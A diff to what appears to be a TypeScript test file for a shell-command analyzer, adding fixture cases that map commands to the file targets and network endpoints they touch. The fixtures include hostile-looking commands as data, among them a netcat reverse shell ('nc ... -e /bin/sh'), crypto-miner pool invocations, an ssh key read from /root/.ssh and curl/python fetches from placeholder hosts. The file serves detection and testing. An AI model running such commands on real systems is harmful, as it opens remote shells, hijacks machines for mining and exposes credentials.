@@ -53,6 +53,7 @@ const table: readonly (readonly [command: string, targets: readonly string[]])[]
   ['/tmp/x # /tmp/y', ['/tmp/x']],
   ["'/tmp/a b'", ['/tmp/a b']],
   ['systemd-run --unit x /tmp/x', ['/tmp/x']],
+  ['ssh -i /root/.ssh/k host "ls /x" /y; rsync -e "ssh -p 22" /srv b@h:/z', ['/root/.ssh/k', '/srv']],
   ['rsync -a host:/srv/data user@host:b/c /backup/', ['/backup']],
 ]
 
@@ -74,6 +75,8 @@ const downloads: readonly (readonly [command: string, endpoints: readonly string
   ['nc 198.51.100.7 4444 -e /bin/sh', ['198.51.100.7:4444']],
   ['/tmp/x -o pool.example:3333 -u w', ['pool.example:3333']],
   ['/tmp/x --url=stratum+tcp://pool.example:3333', ['stratum+tcp://pool.example:3333']],
+  [`python -c 'urlopen("http://h.example/x").read()'`, ['http://h.example/x']],
+  ['curl http://h.example/$(uname -m)', ['http://h.example/$(uname -m)']],
   ['tar czf /backup/a.tgz /srv', []],
 ]
 
